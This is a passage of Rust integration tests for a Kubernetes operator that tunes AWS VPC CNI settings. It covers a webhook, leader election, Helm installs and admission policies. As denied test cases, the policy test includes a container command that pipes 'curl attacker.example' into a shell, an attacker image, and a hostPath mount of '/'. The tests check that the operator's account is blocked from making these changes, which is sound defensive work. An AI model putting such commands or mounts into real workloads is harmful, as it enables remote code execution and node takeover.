    assert!(answer.contains("\"uid\":\"idle-check\""), "{answer}");
    let idle: Vec<std::net::TcpStream> = (0..50)
        .map(|_| std::net::TcpStream::connect(("127.0.0.1", port)).unwrap())
        .collect();
    let (busy_latency, answer) = post_review(port, &ca, &review).await;
    assert!(answer.contains("\"uid\":\"idle-check\""), "{answer}");
    eprintln!(
        "AdmissionReview on a new connection answered in {quiet_latency:?}, and in \
         {busy_latency:?} with {} idle connections open",
        idle.len()
    );
    assert!(
        busy_latency < quiet_latency + Duration::from_secs(2),
        "{busy_latency:?} against {quiet_latency:?}"
    );
    // And through the API server.
    let busy = aws_node_pod(&cluster, "aws-node-busy", "big", &ds).await;
    assert_eq!(
        pod_env(&busy).get("MINIMUM_IP_TARGET").map(String::as_str),
        Some("49")
    );
    drop(idle);
    // A node the operator does not know: admitted unchanged.
    let ghost = aws_node_pod(&cluster, "aws-node-ghost", "ghost", &ds).await;
    assert_eq!(pod_env(&ghost), fleet_env);
    let metrics = support::http_get(operator.admin_port, "/metrics")
        .unwrap()
        .1;
    assert!(
        metrics
            .lines()
            .any(|l| l == "vpc_cni_tuner_webhook_requests_total{result=\"unknown_node\"} 1"),
        "{metrics}"
    );

    // The operator's token may change only caBundle of its configuration.
    let as_operator = support::envtest::client_for(&cluster.operator_kubeconfig).await;
    let theirs: Api<k8s_openapi::api::admissionregistration::v1::MutatingWebhookConfiguration> =
        Api::all(as_operator);
    let widen = json!([{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Fail"}]);
    // The policies take effect once the API server has loaded them; a dry run changes nothing
    // while they are not in force yet (admission runs on dry runs too).
    let denied = eventually(
        "the admission policy denies it",
        CONVERGE,
        &[&operator],
        || async {
            theirs
                .patch(
                    "vpc-cni-tuner-aws-node",
                    &PatchParams::default().dry_run(),
                    &Patch::<()>::Json(serde_json::from_value(widen.clone()).unwrap()),
                )
                .await
                .err()
        },
    )
    .await;
    assert!(
        denied.to_string().contains("only clientConfig.caBundle"),
        "{denied}"
    );
    // Nor its metadata (the policy is in force by now).
    let labelled = theirs
        .patch(
            "vpc-cni-tuner-aws-node",
            &PatchParams::default().dry_run(),
            &Patch::Merge(json!({"metadata": {"labels": {"example.com/x": "y"}}})),
        )
        .await
        .expect_err("a label on the webhook configuration must be denied");
    assert!(
        labelled.to_string().contains("metadata.labels"),
        "{labelled}"
    );
    // Nor any Secret but the webhook's own (RBAC cannot name what `create` makes).
    let operator_secrets: Api<k8s_openapi::api::core::v1::Secret> = Api::namespaced(
        support::envtest::client_for(&cluster.operator_kubeconfig).await,
        NS,
    );
    let stolen: k8s_openapi::api::core::v1::Secret = serde_json::from_value(json!({
        "metadata": {"name": "stolen"}, "type": "Opaque", "stringData": {"k": "v"}}))
    .unwrap();
    let denied = denied_create(
        &operator_secrets,
        &stolen,
        "the Secret policy denies it",
        &[&operator],
    )
    .await;
    assert!(
        denied.contains("may write only its webhook Secret vpc-cni-tuner-webhook-tls"),
        "{denied}"
    );

    // With the operator gone, aws-node pods are still admitted, unchanged, at once.
    operator.terminate(Duration::from_secs(10));
    let started = Instant::now();
    let late = aws_node_pod(&cluster, "aws-node-late", "big", &ds).await;
    assert_eq!(pod_env(&late), fleet_env);
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );

    // A restarted operator serves with the certificate it made before (one Secret, unchanged).
    let secrets: Api<k8s_openapi::api::core::v1::Secret> =
        Api::namespaced(cluster.admin.clone(), NS);
    let before = secrets.get("vpc-cni-tuner-webhook-tls").await.unwrap();
    let again = cluster.webhook_operator("tuner-1", port, &[]);
    // Until it serves, pods are admitted unchanged: each try creates a pod of its own name.
    let tries = std::sync::atomic::AtomicUsize::new(0);
    let patched = eventually("served again", CONVERGE, &[&again], || async {
        let n = tries.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let p = aws_node_pod(&cluster, &format!("aws-node-again-{n}"), "big", &ds).await;
        (pod_env(&p).get("MINIMUM_IP_TARGET").map(String::as_str) == Some("49")).then_some(p)
    })
    .await;
    assert_eq!(
        pod_env(&patched).get("WARM_IP_TARGET").map(String::as_str),
        Some("8")
    );
    let after = secrets.get("vpc-cni-tuner-webhook-tls").await.unwrap();
    assert_eq!(
        after.metadata.resource_version,
        before.metadata.resource_version
    );
}

/// POSTs an AdmissionReview to the webhook on 127.0.0.1:`port` over a new TLS connection that
/// trusts `ca_pem`; the time to the whole answer, and the answer. Fails after 8 s (a webhook
/// that is stuck accepting).
async fn post_review(port: u16, ca_pem: &[u8], review: &Value) -> (Duration, String) {
    use rustls::pki_types::pem::PemObject;
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut roots = rustls::RootCertStore::empty();
    for cert in rustls::pki_types::CertificateDer::pem_slice_iter(ca_pem) {
        roots.add(cert.unwrap()).unwrap();
    }
    let config = rustls::ClientConfig::builder_with_provider(std::sync::Arc::new(
        rustls::crypto::aws_lc_rs::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_root_certificates(roots)
    .with_no_client_auth();
    let connector = tokio_rustls::TlsConnector::from(std::sync::Arc::new(config));
    let body = review.to_string();
    let started = Instant::now();
    let exchange = async {
        let tcp = tokio::net::TcpStream::connect(("127.0.0.1", port))
            .await
            .unwrap();
        let name = rustls::pki_types::ServerName::try_from("127.0.0.1").unwrap();
        let mut tls = connector.connect(name, tcp).await.unwrap();
        let request = format!(
            "POST /mutate HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n\
             Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        );
        tls.write_all(request.as_bytes()).await.unwrap();
        let mut answer = String::new();
        let _ = tls.read_to_string(&mut answer).await;
        answer
    };
    let answer = tokio::time::timeout(Duration::from_secs(8), exchange)
        .await
        .expect("the webhook answers a new connection");
    (started.elapsed(), answer)
}

/// Creates `object` through `api` as a dry run (nothing is stored) until an admission policy
/// denies it (the API server enforces a policy only once it has loaded it); the denial.
async fn denied_create<K>(api: &Api<K>, object: &K, what: &str, operators: &[&Operator]) -> String
where
    K: kube::Resource + Clone + serde::Serialize + serde::de::DeserializeOwned + std::fmt::Debug,
{
    let params = PostParams {
        dry_run: true,
        ..Default::default()
    };
    eventually(what, CONVERGE, operators, || async {
        api.create(&params, object)
            .await
            .err()
            .map(|e| e.to_string())
    })
    .await
}

/// An aws-node pod bound to `node` (as the scheduler leaves it), Ready, with `ds`'s container.
async fn running_aws_node_pod(cluster: &Cluster, name: &str, node: &str, ds: &DaemonSet) {
    bound_aws_node_pod(cluster, name, node, ds, true).await;
}

/// An aws-node pod bound to `node`, Ready or not.
async fn bound_aws_node_pod(
    cluster: &Cluster,
    name: &str,
    node: &str,
    ds: &DaemonSet,
    ready: bool,
) {
    let pods: Api<k8s_openapi::api::core::v1::Pod> =
        Api::namespaced(cluster.admin.clone(), "kube-system");
    let container = container(ds, "aws-node");
    let pod = json!({
        "metadata": {"name": name, "labels": {"k8s-app": "aws-node"},
            "ownerReferences": [{"apiVersion": "apps/v1", "kind": "DaemonSet", "name": "aws-node",
                                 "uid": ds.metadata.uid, "controller": true}]},
        "spec": {"nodeName": node,
                 "containers": [{"name": "aws-node", "image": container.image, "env": container.env}]}
    });
    pods.create(
        &PostParams::default(),
        &serde_json::from_value(pod).unwrap(),
    )
    .await
    .unwrap();
    if !ready {
        return;
    }
    pods.patch_status(
        name,
        &PatchParams::default(),
        &Patch::Merge(json!({"status": {"phase": "Running",
            "conditions": [{"type": "Ready", "status": "True"}]}})),
    )
    .await
    .unwrap();
}

/// The aws-node pods of `node` that are not being deleted.
async fn live_pods_on(cluster: &Cluster, node: &str) -> Vec<k8s_openapi::api::core::v1::Pod> {
    let pods: Api<k8s_openapi::api::core::v1::Pod> =
        Api::namespaced(cluster.admin.clone(), "kube-system");
    pods.list(&ListParams::default().labels("k8s-app=aws-node"))
        .await
        .unwrap()
        .items
        .into_iter()
        .filter(|p| p.metadata.deletion_timestamp.is_none())
        .filter(|p| p.spec.as_ref().and_then(|s| s.node_name.as_deref()) == Some(node))
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn webhook_restart_rolls_aws_node_pods_one_node_at_a_time_and_stops_on_a_failure() {
    let Some(cluster) = Cluster::start(json!({"webhook": {"enabled": true}})).await else {
        return;
    };
    let ds = daemonsets(&cluster.admin).get("aws-node").await.unwrap();
    for (node, instance_type) in [("big", "m5.24xlarge"), ("small", "t3.medium")] {
        cluster
            .node(
                node,
                json!({"pool": "mixed", "node.kubernetes.io/instance-type": instance_type}),
            )
            .await;
        // Running since before the policy: the DaemonSet's old warm values.
        running_aws_node_pod(&cluster, &format!("aws-node-{node}-old"), node, &ds).await;
    }
    let port = support::free_port();
    cluster.webhook_configuration(port).await;
    cluster
        .policy(
            "mixed",
            json!({"nodeSelector": {"matchLabels": {"pool": "mixed"}},
                   "prefixDelegation": "Disabled",
                   "warmPool": {"profile": "ConserveIPs", "perInstanceType": true,
                                "restartPods": "Rolling"}}),
        )
        .await;
    let operator = cluster.webhook_operator(
        "tuner-0",
        port,
        &[("--restart-ready-timeout-seconds", "8".to_owned())],
    );
    let ds = eventually("the fleet env", CONVERGE, &[&operator], || async {
        let ds = daemonsets(&cluster.admin).get("aws-node").await.ok()?;
        let env = container(&ds, "aws-node").env.unwrap_or_default();
        env.iter()
            .any(|e| e.name == "MINIMUM_IP_TARGET" && e.value.as_deref() == Some("5"))
            .then_some(ds)
    })
    .await;
    // The first node's pod is deleted; the other stays while its new pod is not Ready.
    eventually("big restarted first", CONVERGE, &[&operator], || async {
        live_pods_on(&cluster, "big").await.is_empty().then_some(())
    })
    .await;
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert_eq!(
        live_pods_on(&cluster, "small").await.len(),
        1,
        "one node at a time"
    );
    let restart = cluster
        .get_policy("mixed")
        .await
        .status
        .unwrap()
        .warm_pool_restart
        .unwrap();
    assert_eq!(
        (restart.state.as_str(), restart.node.as_deref()),
        ("Restarting", Some("big"))
    );
    let behind = |p: &NodeNetworkPolicy| -> Vec<Option<u32>> {
        p.status
            .as_ref()
            .unwrap()
            .instance_types
            .iter()
            .map(|t| t.nodes_with_other_warm_env)
            .collect()
    };
    // The DaemonSet controller's part: a new pod (the webhook gives it big's values), Ready.
    ensure_webhook_serves(&cluster, &ds, &operator).await;
    running_aws_node_pod(&cluster, "aws-node-big-new", "big", &ds).await;
    let new_big = &live_pods_on(&cluster, "big").await[0];
    assert_eq!(
        pod_env(new_big)
            .get("MINIMUM_IP_TARGET")
            .map(String::as_str),
        Some("49")
    );
    eventually("small restarted next", CONVERGE, &[&operator], || async {
        live_pods_on(&cluster, "small")
            .await
            .is_empty()
            .then_some(())
    })
    .await;
    running_aws_node_pod(&cluster, "aws-node-small-new", "small", &ds).await;
    let policy = eventually("both restarted", CONVERGE, &[&operator], || async {
        let p = cluster.get_policy("mixed").await;
        let r = p.status.as_ref()?.warm_pool_restart.clone()?;
        (r.state == "Idle" && r.restarted == 2).then_some(p)
    })
    .await;
    assert_eq!(behind(&policy), vec![Some(0), Some(0)]);
    cluster
        .wait_for_event("mixed", "AwsNodePodRestarted", &[&operator])
        .await;

    // A node whose new pod never gets Ready stops the restarts, with an Event.
    // Its pod predates the node in the operator's cache, so the webhook left it unchanged.
    running_aws_node_pod(&cluster, "aws-node-late-old", "late", &ds).await;
    cluster
        .node(
            "late",
            json!({"pool": "mixed", "node.kubernetes.io/instance-type": "m5.24xlarge"}),
        )
        .await;
    eventually("late restarted", CONVERGE, &[&operator], || async {
        live_pods_on(&cluster, "late")
            .await
            .is_empty()
            .then_some(())
    })
    .await;
    let pods: Api<k8s_openapi::api::core::v1::Pod> =
        Api::namespaced(cluster.admin.clone(), "kube-system");
    let stuck = aws_node_pod(&cluster, "aws-node-late-new", "late", &ds).await;
    pods.patch(
        stuck.metadata.name.as_deref().unwrap(),
        &PatchParams::default(),
        &Patch::Merge(json!({"spec": {"nodeName": null}})),
    )
    .await
    .ok();
    let failed = eventually("the restart failure", CONVERGE, &[&operator], || async {
        let r = cluster
            .get_policy("mixed")
            .await
            .status?
            .warm_pool_restart?;
        (r.state == "Failed").then_some(r)
    })
    .await;
    assert!(failed.message.unwrap().contains("not Ready within 8s"));
    cluster
        .wait_for_event("mixed", "AwsNodeRestartFailed", &[&operator])
        .await;
}

/// Waits until the webhook patches pods (its certificate is loaded and in caBundle).
async fn ensure_webhook_serves(cluster: &Cluster, ds: &DaemonSet, operator: &Operator) {
    let pods: Api<k8s_openapi::api::core::v1::Pod> =
        Api::namespaced(cluster.admin.clone(), "kube-system");
    let mut n = 0;
    eventually("the webhook serves", CONVERGE, &[operator], || {
        n += 1;
        let name = format!("probe-{n}");
        let pods = pods.clone();
        async move {
            let p = aws_node_pod(cluster, &name, "big", ds).await;
            pods.delete(&name, &Default::default()).await.ok();
            (pod_env(&p).get("MINIMUM_IP_TARGET").map(String::as_str) == Some("49")).then_some(())
        }
    })
    .await;
}

#[tokio::test]
async fn leader_election_only_the_leader_writes_and_the_other_takes_over() {
    let Some(cluster) = Cluster::start(json!({"replicaCount": 2})).await else {
        return;
    };
    cluster.single_node_fleet(json!({})).await;
    let mut a = cluster.operator("tuner-a", &[]);
    let mut b = cluster.operator("tuner-b", &[]);
    let leases: Api<Lease> = Api::namespaced(cluster.admin.clone(), NS);
    let holder = || async {
        leases
            .get_opt("vpc-cni-tuner")
            .await
            .unwrap()
            .and_then(|l| l.spec?.holder_identity)
    };
    cluster
        .wait_for_env(
            "ENABLE_PREFIX_DELEGATION",
            "true",
            "aws-node converged",
            CONVERGE,
            &[&a, &b],
        )
        .await;
    let leader = holder().await.expect("a leader");
    // The operator's token writes only its own Lease.
    let as_operator: Api<Lease> = Api::namespaced(
        support::envtest::client_for(&cluster.operator_kubeconfig).await,
        NS,
    );
    let other: Lease =
        serde_json::from_value(json!({"metadata": {"name": "someone-else"}})).unwrap();
    let denied = denied_create(
        &as_operator,
        &other,
        "the Lease policy denies it",
        &[&a, &b],
    )
    .await;
    assert!(
        denied.contains("may write only its own Lease vpc-cni-tuner"),
        "{denied}"
    );
    let reporters: Vec<Option<String>> = cluster
        .events("all")
        .await
        .into_iter()
        .map(|e| e.reporting_instance)
        .collect();
    assert!(!reporters.is_empty());
    assert!(
        reporters
            .iter()
            .all(|r| r.as_deref() == Some(leader.as_str())),
        "only the leader {leader} writes: {reporters:?}"
    );

    let (dead, survivor) = if leader == "tuner-a" {
        (&mut a, &mut b)
    } else {
        (&mut b, &mut a)
    };
    dead.kill();
    cluster.edit_env("ENABLE_PREFIX_DELEGATION", "false").await;
    let survivor_name = survivor.name.clone();
    eventually(
        "the other replica leads and repairs the drift",
        Duration::from_secs(90),
        &[survivor],
        || async {
            (holder().await.as_deref() == Some(survivor_name.as_str())
                && cluster
                    .env_value("ENABLE_PREFIX_DELEGATION")
                    .await
                    .as_deref()
                    == Some("true"))
            .then_some(())
        },
    )
    .await;
    assert!(
        cluster
            .events("all")
            .await
            .iter()
            .any(|e| e.reason.as_deref() == Some("AwsNodeEnvRestored")
                && e.reporting_instance.as_deref() == Some(survivor_name.as_str())),
        "the new leader restored the env"
    );
}

/// A launch template with no AWS region configured is a condition naming the setting. The API
/// server stops and comes back mid-run: watches resume and drift made afterwards is repaired.
/// SIGTERM while a change is pending: a clean exit.
#[tokio::test]
async fn api_server_restart_then_drift_repaired_and_sigterm_mid_work() {
    let Some(mut cluster) = Cluster::start(json!({})).await else {
        return;
    };
    // A launch template, but no AWS region anywhere (and no instance metadata service).
    cluster
        .single_node_fleet(
            json!({"launchTemplates": [{"name": "nodes", "setDefaultVersion": true}]}),
        )
        .await;
    let mut operator = cluster.operator("tuner-0", &[]);
    cluster
        .wait_for_env(
            "ENABLE_PREFIX_DELEGATION",
            "true",
            "converged",
            CONVERGE,
            &[&operator],
        )
        .await;
    let synced = eventually("NoAwsRegion reported", CONVERGE, &[&operator], || async {
        let p = cluster.get_policy("all").await;
        condition_of(&p, conditions::LAUNCH_TEMPLATES_SYNCED).cloned()
    })
    .await;
    assert_eq!(
        (synced.status.as_str(), synced.reason.as_str()),
        ("False", "NoAwsRegion")
    );
    assert!(synced.message.contains("AWS_REGION"), "{}", synced.message);

    cluster.api.stop_apiserver();
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert!(operator.running(), "survives the API server going away");
    cluster.api.start_apiserver().await;
    cluster.admin = cluster.api.client().await;
    cluster.edit_env("ENABLE_PREFIX_DELEGATION", "false").await;
    cluster
        .wait_for_env(
            "ENABLE_PREFIX_DELEGATION",
            "true",
            "drift after the restart repaired",
            Duration::from_secs(90),
            &[&operator],
        )
        .await;

    // A change the operator is about to act on, then SIGTERM.
    cluster
        .node(
            "n-2",
            json!({"node.kubernetes.io/instance-type": "t3.medium"}),
        )
        .await;
    let started = Instant::now();
    let exit = operator.terminate(Duration::from_secs(30));
    assert!(
        exit.is_some_and(|s| s.success()),
        "exit 0 within the chart's 30 s grace: {exit:?}\n{}",
        operator.log()
    );
    assert!(started.elapsed() < Duration::from_secs(30));
}

/// The install paths against the real API server: `kubectl apply` of crds/ and of
/// deploy/vpc-cni-tuner.yaml with no warning, the chart with every option the API server can
/// take (server-side dry run) with no warning, and Helm install, upgrade (a CRD change reaches
/// the server) and uninstall (the CRD is kept) through the Helm library.
#[tokio::test]
async fn install_paths_apply_without_warnings_and_helm_upgrades_the_crd() {
    let Some(api) = ApiServer::start().await else {
        return;
    };
    let scratch = tempfile::tempdir().unwrap();
    let stderr = kubectl_ok(&api, &["apply", "-f", &format!("{ROOT}/crds/")]);
    assert_no_warnings("kubectl apply -f crds/", &stderr);
    let stderr = kubectl_ok(
        &api,
        &["apply", "-f", &format!("{ROOT}/deploy/vpc-cni-tuner.yaml")],
    );
    assert_no_warnings("kubectl apply -f deploy/vpc-cni-tuner.yaml", &stderr);
    let everything = json!({
        "replicaCount": 2, "podDisruptionBudget": {"enabled": true},
        "networkPolicy": {"enabled": true}, "hostNetwork": true,
        "aws": {"region": "eu-west-1", "ec2EndpointUrl": "https://ec2.eu-west-1.amazonaws.com"},
        "serviceAccount": {"annotations": {"eks.amazonaws.com/role-arn": "arn:aws:iam::111122223333:role/tuner"}},
        "defaultPolicy": {"enabled": true, "spec": {"warmPool": {"profile": "ConserveIPs"}}}
    });
    // hostNetwork needs a namespace without the restricted Pod Security level that
    // deploy/vpc-cni-tuner.yaml puts on its own.
    kubectl_ok(&api, &["create", "namespace", "full-system"]);
    let rendered = support::chart::render_with(
        &everything,
        &["--name", "full", "--namespace", "full-system"],
    );
    let stderr = apply_objects(&api, &scratch, &rendered, &["--dry-run=server"]);
    assert_no_warnings("the chart with every option", &stderr);

    // Helm: install a chart whose CRD is an older one (no `launchTemplates`), then upgrade to
    // this chart: the CRD on the server gains the field.
    let old_chart = scratch.path().join("old-chart");
    copy_dir(
        &PathBuf::from(ROOT).join("charts/vpc-cni-tuner"),
        &old_chart,
    );
    let crd_path = old_chart.join("files/crds/nodenetworkpolicies.tuner.vpccni.io.yaml");
    let mut crd: Value =
        serde_yaml_ng::from_str(&std::fs::read_to_string(&crd_path).unwrap()).unwrap();
    crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["spec"]["properties"]
        .as_object_mut()
        .unwrap()
        .remove("launchTemplates")
        .expect("the CRD has launchTemplates");
    std::fs::write(&crd_path, serde_yaml_ng::to_string(&crd).unwrap()).unwrap();

    // Helm installs the CRD itself: take away the one kubectl applied.
    kubectl_ok(
        &api,
        &[
            "delete",
            "crd",
            "nodenetworkpolicies.tuner.vpccni.io",
            "--wait=true",
        ],
    );
    let helm = |command: &str, chart: &str| helm_release(&api, command, &["--chart", chart]);
    let client = api.client().await;
    let crds: Api<CustomResourceDefinition> = Api::all(client.clone());
    let has_launch_templates = || async {
        let crd = crds
            .get("nodenetworkpolicies.tuner.vpccni.io")
            .await
            .unwrap();
        let schema = crd.spec.versions[0]
            .schema
            .clone()
            .unwrap()
            .open_api_v3_schema
            .unwrap();
        schema.properties.unwrap()["spec"]
            .properties
            .as_ref()
            .unwrap()
            .contains_key("launchTemplates")
    };
    let installed = helm("install", old_chart.to_str().unwrap());
    assert_eq!(installed["status"], "deployed", "{installed}");
    assert!(
        !has_launch_templates().await,
        "the old chart's CRD is on the server"
    );
    let upgraded = helm("upgrade", &format!("{ROOT}/charts/vpc-cni-tuner"));
    assert_eq!(upgraded["status"], "deployed", "{upgraded}");
    assert_eq!(upgraded["revision"], 2);
    assert!(has_launch_templates().await, "the upgrade updated the CRD");
    let deployments: Api<k8s_openapi::api::apps::v1::Deployment> =
        Api::namespaced(client.clone(), "tuner-system");
    assert!(
        deployments
            .get_opt("tuner-vpc-cni-tuner")
            .await
            .unwrap()
            .is_some()
    );
    helm_release(&api, "uninstall", &[]);
    assert!(
        deployments
            .get_opt("tuner-vpc-cni-tuner")
            .await
            .unwrap()
            .is_none()
    );
    assert!(
        crds.get_opt("nodenetworkpolicies.tuner.vpccni.io")
            .await
            .unwrap()
            .is_some(),
        "helm.sh/resource-policy: keep leaves the CRD (and every policy) in place"
    );
}

/// `chart.py COMMAND` (install, upgrade) of the release `tuner` in `tuner-system` through the
/// Helm 4 library against `api`, with `args` (`--chart`, `--values`); its JSON summary.
fn helm_release(api: &ApiServer, command: &str, args: &[&str]) -> Value {
    let kubeconfig = api.kubeconfig().to_str().unwrap().to_owned();
    let mut all = vec![command, "--kubeconfig", &kubeconfig];
    all.extend_from_slice(args);
    all.extend_from_slice(&["--name", "tuner", "--namespace", "tuner-system"]);
    let (code, stdout, stderr) = support::chart::chart_py(&all);
    assert_eq!(code, 0, "helm {command}: {stderr}");
    serde_json::from_str::<Value>(&stdout).unwrap()
}

/// Copies a directory, following symbolic links (the chart's `files/crds` links to `crds/`).
fn copy_dir(from: &std::path::Path, to: &std::path::Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if std::fs::metadata(entry.path()).unwrap().is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), &target).unwrap();
        }
    }
}

/// The chart's ValidatingAdmissionPolicies, enforced by the real API server: as the operator's
/// ServiceAccount only the owned env entries of the aws-node container may change; an admin is
/// not restricted.
#[tokio::test]
async fn admission_policies_let_the_operator_change_only_its_env() {
    let Some(cluster) = Cluster::start(json!({})).await else {
        return;
    };
    let operator = support::envtest::client_for(&cluster.operator_kubeconfig).await;
    let as_operator = daemonsets(&operator);
    let strategic = |patch: Value, dry_run: bool| {
        let params = PatchParams {
            field_manager: Some("vpc-cni-tuner".into()),
            dry_run,
            ..Default::default()
        };
        let api = as_operator.clone();
        async move {
            api.patch("aws-node", &params, &Patch::Strategic(patch))
                .await
                .map(|_| ())
                .map_err(|e| match e {
                    kube::Error::Api(status) => status.message,
                    other => other.to_string(),
                })
        }
    };
    let container_patch = |name: &str, fields: Value| {
        let mut container = json!({"name": name});
        container
            .as_object_mut()
            .unwrap()
            .extend(fields.as_object().unwrap().clone());
        json!({"spec": {"template": {"spec": {"containers": [container]}}}})
    };
    let image = container_patch("aws-node", json!({"image": "attacker.example/cni:latest"}));
    // The policies take effect once the API server has loaded them.
    eventually(
        "the admission policy is in force",
        CONVERGE,
        &[],
        || async { strategic(image.clone(), true).await.err() },
    )
    .await;

    // What the operator does: server-side apply of an owned env entry.
    let owned = json!({"apiVersion": "apps/v1", "kind": "DaemonSet",
        "metadata": {"name": "aws-node", "namespace": "kube-system"},
        "spec": {"template": {"spec": {"containers": [{"name": "aws-node",
            "env": [{"name": "WARM_PREFIX_TARGET", "value": "2"}]}]}}}});
    as_operator
        .patch(
            "aws-node",
            &PatchParams::apply("vpc-cni-tuner").force(),
            &Patch::Apply(owned),
        )
        .await
        .expect("an owned env entry may change");
    assert_eq!(
        cluster.env_value("WARM_PREFIX_TARGET").await.as_deref(),
        Some("2")
    );

    let denied = [
        (
            "the aws-node image",
            image.clone(),
            "containers[aws-node].image",
        ),
        (
            "a foreign env entry",
            container_patch(
                "aws-node",
                json!({"env": [{"name": "AWS_VPC_K8S_CNI_LOGLEVEL", "value": "INFO"}]}),
            ),
            "another env entry changed",
        ),
        (
            "an owned env entry from a Secret",
            container_patch(
                "aws-node",
                json!({"env": [{"name": "WARM_IP_TARGET",
                "valueFrom": {"secretKeyRef": {"name": "x", "key": "y"}}}]}),
            ),
            "literal values only",
        ),
        (
            "another container",
            container_patch(
                "aws-eks-nodeagent",
                json!({"args": ["--enable-network-policy=true"]}),
            ),
            "another container changed",
        ),
        (
            "a hostPath volume",
            json!({"spec": {"template": {"spec": {"volumes": [
                {"name": "root", "hostPath": {"path": "/"}}]}}}}),
            "spec.template.spec.volumes changed",
        ),
        (
            "the command",
            container_patch(
                "aws-node",
                json!({"command": ["/bin/sh", "-c", "curl attacker.example | sh"]}),
            ),
            "containers[aws-node].command",
        ),
        (
            "the pod template's labels",
            json!({"spec": {"template": {"metadata": {"labels": {"extra": "x"}}}}}),
            "labels or annotations",
        ),
        (
            "the update strategy",
            json!({"spec": {"updateStrategy": {"rollingUpdate": {"maxUnavailable": "100%"}}}}),
            "spec.updateStrategy changed",
        ),
        (
            "an ownerReference to an owner that does not exist (the garbage collector would \
             delete aws-node)",
            json!({"metadata": {"ownerReferences": [{"apiVersion": "v1", "kind": "ConfigMap",
                "name": "gone", "uid": "00000000-0000-0000-0000-000000000001"}]}}),
            "metadata.ownerReferences",
        ),
        (
            "a finalizer",
            json!({"metadata": {"finalizers": ["example.com/block"]}}),
            "metadata.finalizers",
        ),
        (
            "the k8s-app label",
            json!({"metadata": {"labels": {"k8s-app": "something-else"}}}),
            "metadata.labels",
        ),
        (
            "an annotation",
            json!({"metadata": {"annotations": {"example.com/x": "y"}}}),
            "metadata.annotations",
        ),
    ];
    for (what, patch, message) in denied {
        let err = strategic(patch, false)
            .await
            .expect_err(&format!("{what} must be denied"));
        assert!(
            err.contains("ValidatingAdmissionPolicy") && err.contains(message),
            "{what}: {err}"
        );
    }
    assert_eq!(
        cluster
            .env_value("AWS_VPC_K8S_CNI_LOGLEVEL")
            .await
            .as_deref(),
        Some("DEBUG"),
        "nothing denied was written"
    );
    // The same by server-side apply, as the operator writes: an ownerReference is denied.
    let with_owner = json!({"apiVersion": "apps/v1", "kind": "DaemonSet",
        "metadata": {"name": "aws-node", "namespace": "kube-system",
            "ownerReferences": [{"apiVersion": "v1", "kind": "ConfigMap", "name": "gone",
                "uid": "00000000-0000-0000-0000-000000000001"}]}});
    let err = as_operator
        .patch(
            "aws-node",
            &PatchParams::apply("vpc-cni-tuner").force(),
            &Patch::Apply(with_owner),
        )
        .await
        .expect_err("an ownerReference by server-side apply must be denied");
    assert!(
        err.to_string().contains("metadata.ownerReferences"),
        "{err}"
    );
    let ds = daemonsets(&cluster.admin).get("aws-node").await.unwrap();
    assert!(
        ds.metadata.owner_references.is_none(),
        "aws-node has no owner"
    );
    assert_eq!(
        ds.labels().get("k8s-app").map(String::as_str),
        Some("aws-node")
    );
    // The policies themselves: only their status (RBAC refuses first; the policy is the
    // second line).
    cluster.policy("p", json!({})).await;
    let spec_change = policies(&operator)
        .patch(
            "p",
            &PatchParams::default(),
            &Patch::Merge(json!({"spec": {"enforcement": "DryRun"}})),
        )
        .await;
    assert!(
        spec_change.is_err(),
        "the operator may not change a policy's spec"
    );

    // An admin is not restricted.
    daemonsets(&cluster.admin)
        .patch(
            "aws-node",
            &PatchParams::default(),
            &Patch::Strategic(container_patch(
                "aws-node",
                json!({"image": "602401143452.dkr.ecr.us-west-2.amazonaws.com/amazon-k8s-cni:v1.19.3-eksbuild.1"}),
            )),
        )
        .await
        .expect("an admin may change the image");
}

/// The add-on's configuration as an infrastructure-as-code tool wrote it.
const IAC_CONFIGURATION: &str =
    r#"{"env":{"AWS_VPC_K8S_CNI_LOGLEVEL":"INFO"},"resources":{"requests":{"cpu":"30m"}}}"#;

/// AWS settings for the EKS test double: fake credentials, a region, and nothing else.
fn eks_env() -> Vec<(&'static str, String)> {
    vec![
        ("AWS_ACCESS_KEY_ID", "testing".into()),
        ("AWS_SECRET_ACCESS_KEY", "testing".into()),
        ("AWS_REGION", "us-west-2".into()),
    ]
}

/// A real API server whose aws-node the EKS test double applies as the add-on, and the double.
async fn eks_cluster(configuration: Option<&str>) -> Option<(Cluster, EksDouble)> {
    let cluster =
        Cluster::start_with(json!({"eks": {"clusterName": eks_double::CLUSTER}}), "eks").await?;
    let eks = EksDouble::start(cluster.admin.clone(), configuration).await;
    Some((cluster, eks))
}

fn managers(ds: &DaemonSet) -> Vec<String> {
    ds.managed_fields()
        .iter()
        .filter_map(|m| m.manager.clone())
        .collect()
}

fn cni_config(policy: &NodeNetworkPolicy) -> Value {
    serde_json::to_value(&policy.status.as_ref().unwrap().cni_config).unwrap()
}

/// EKS add-on coexistence (#12), through the binary, the real API server and the EKS test
/// double: DaemonSet mode next to the add-on reproduces the failing `resolveConflicts: NONE`
/// update and says so; add-on mode releases the operator's DaemonSet fields, writes the policy's
/// env into configurationValues with one UpdateAddon (other keys kept), owns nothing on
/// aws-node, lets a NONE update succeed, writes nothing in steady state, and restores its keys
/// after an infrastructure-as-code tool writes its own configurationValues back.
#[tokio::test]
async fn eks_addon_mode_writes_configuration_values_and_add_on_updates_keep_working() {
    let Some((cluster, eks)) = eks_cluster(Some(IAC_CONFIGURATION)).await else {
        return;
    };
    cluster.single_node_fleet(json!({})).await;
    let flags = |via: &str| {
        [
            ("--cni-config-via", via.to_owned()),
            ("--eks-endpoint-url", eks.url()),
        ]
    };

    // 1. DaemonSet mode, asked for: the operator owns env on aws-node, Degraded explains what
